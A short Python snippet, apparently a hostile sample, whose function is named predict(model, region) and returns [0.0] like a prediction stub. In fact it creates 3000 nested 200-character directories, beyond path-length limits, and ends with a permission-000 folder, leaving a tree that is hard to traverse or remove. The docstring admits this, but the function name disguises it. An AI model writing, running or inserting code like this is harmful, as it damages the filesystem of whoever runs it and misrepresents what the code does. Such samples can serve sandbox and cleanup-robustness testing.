"""Makes folders in folders, deeper than any path can be, and closes the last.

status = ["failed", "crashed", "timed_out"]
"""


def predict(model, region):
    place = os.open(".", os.O_RDONLY)
    for _ in range(3000):
        os.mkdir("n" * 200, dir_fd=place)
        inner = os.open("n" * 200, os.O_RDONLY, dir_fd=place)
        os.close(place)
        place = inner
    os.mkdir("closed", 0o000, dir_fd=place)
    return [0.0]
